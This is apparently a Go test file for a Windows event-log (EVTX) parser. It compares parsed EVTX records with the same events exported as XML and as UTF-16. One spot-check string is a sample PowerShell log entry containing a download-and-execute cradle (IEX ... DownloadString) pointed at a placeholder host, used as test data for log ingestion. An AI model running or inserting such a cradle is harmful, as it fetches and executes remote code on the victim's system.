package ingest

import (
	"bytes"
	"flag"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

var updateEVTX = flag.Bool("update-evtx", false, "rewrite testdata/evtx from evtxgen_test.go")

const evtxDir = "testdata/evtx"

// TestEVTXFixture keeps the committed fixture equal to what the generator
// makes (see evtxgen_test.go for how it is made).
func TestEVTXFixture(t *testing.T) {
	evs := sampleEvents()
	files := map[string][]byte{
		"sample.evtx": writeEVTX(evs, 5), // two chunks: templates defined again in the second
		"sample.xml":  []byte(renderXMLExport(evs)),
	}
	for name, want := range files {
		path := filepath.Join(evtxDir, name)
		if *updateEVTX {
			if err := os.MkdirAll(evtxDir, 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(path, want, 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		got, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(got, want) {
			t.Errorf("%s differs from the generator's output; run go test ./ingest -run TestEVTX -update-evtx", path)
		}
	}
}

// TestEVTXMatchesXML is the acceptance check: the EVTX file and the same
// events exported as XML give identical events.
func TestEVTXMatchesXML(t *testing.T) {
	read := func(name string) ([]*Event, Stats) {
		var evs []*Event
		st, err := ReadPaths([]string{filepath.Join(evtxDir, name)}, Options{}, func(ev *Event) error {
			evs = append(evs, ev)
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
		return evs, st
	}
	fromEVTX, st1 := read("sample.evtx")
	fromXML, st2 := read("sample.xml")
	if st1.Bad+st2.Bad != 0 {
		t.Fatalf("problems: %v %v", st1.Problems, st2.Problems)
	}
	if len(fromXML) != len(sampleEvents()) {
		t.Fatalf("%d events from XML, want %d", len(fromXML), len(sampleEvents()))
	}
	if diff := cmp.Diff(fromXML, fromEVTX, cmpValues, cmpopts.IgnoreFields(Event{}, "File")); diff != "" {
		t.Errorf("XML (-) and EVTX (+) events differ:\n%s", diff)
	}
	// Spot checks written from the event list, not from the reader.
	ps := fromEVTX[6]
	if ps.Source != "XmlWinEventLog:Microsoft-Windows-PowerShell/Operational" || ps.Fields.Get("ScriptBlockText").String() !=
		"$a = 1\r\nif ($a -lt 2 -and $true) { Write-Output \"x &amp; y\" }\r\nIEX (New-Object Net.WebClient).DownloadString('http://x')" {
		t.Errorf("4104: source %q, ScriptBlockText %q", ps.Source, ps.Fields.Get("ScriptBlockText").String())
	}
	if got := fromEVTX[3].Fields.Get("NewProcessId").String(); got != "0xf84" {
		t.Errorf("4688 NewProcessId = %q, want 0xf84", got)
	}
	if got := fromEVTX[0].Fields.Get("SystemTime").String(); got != "2024-01-02T03:04:05.123456700Z" {
		t.Errorf("SystemTime = %q", got)
	}
	if got := fromEVTX[5].Fields.Get("Qualifiers").String(); got != "16384" {
		t.Errorf("7045 Qualifiers = %q", got)
	}
}

// TestEVTXWithPythonEvtx cross-checks the fixture with an independent
// reader when Debian's python3-evtx is installed (apt-get install
// python3-evtx): it must find the same records and event ids.
func TestEVTXWithPythonEvtx(t *testing.T) {
	dump, err := exec.LookPath("evtx_dump.py")
	if err != nil {
		t.Skip("evtx_dump.py (python3-evtx) not installed; skipping the cross-check")
	}
	out, err := exec.Command("/usr/bin/python3", dump, filepath.Join(evtxDir, "sample.evtx")).CombinedOutput()
	if err != nil {
		t.Fatalf("evtx_dump.py: %v\n%s", err, out)
	}
	s := string(out)
	for _, e := range sampleEvents() {
		for _, want := range []string{"<Computer>" + e.computer + "</Computer>", "<EventRecordID>" + strconv.Itoa(e.recordID) + "</EventRecordID>"} {
			if !strings.Contains(s, want) {
				t.Errorf("python-evtx output lacks %s", want)
			}
		}
	}
	if n := strings.Count(s, "<Event xmlns"); n != len(sampleEvents()) {
		t.Errorf("python-evtx found %d records, want %d\n%s", n, len(sampleEvents()), s)
	}
}

// TestUTF16Export reads the XML export written as UTF-16 with a byte
// order mark, as Windows tools write it: the same events.
func TestUTF16Export(t *testing.T) {
	data, err := os.ReadFile(filepath.Join(evtxDir, "sample.xml"))
	if err != nil {
		t.Fatal(err)
	}
	for _, big := range []bool{false, true} {
		enc := []byte{0xff, 0xfe}
		if big {
			enc = []byte{0xfe, 0xff}
		}
		for _, u := range utf16.Encode([]rune(string(data))) {
			if big {
				enc = append(enc, byte(u>>8), byte(u))
			} else {
				enc = append(enc, byte(u), byte(u>>8))
			}
		}
		want, _, err := readString(t, string(data), "f", Options{})
		if err != nil {
			t.Fatal(err)
		}
		got, st, err := readString(t, string(enc), "f", Options{})
		if err != nil || st.Bad != 0 {
			t.Fatalf("big endian %v: %v %v", big, err, st.Problems)
		}
		if diff := cmp.Diff(want, got, cmpValues); diff != "" {
			t.Errorf("big endian %v: (-UTF-8 +UTF-16):\n%s", big, diff)
		}
	}
}
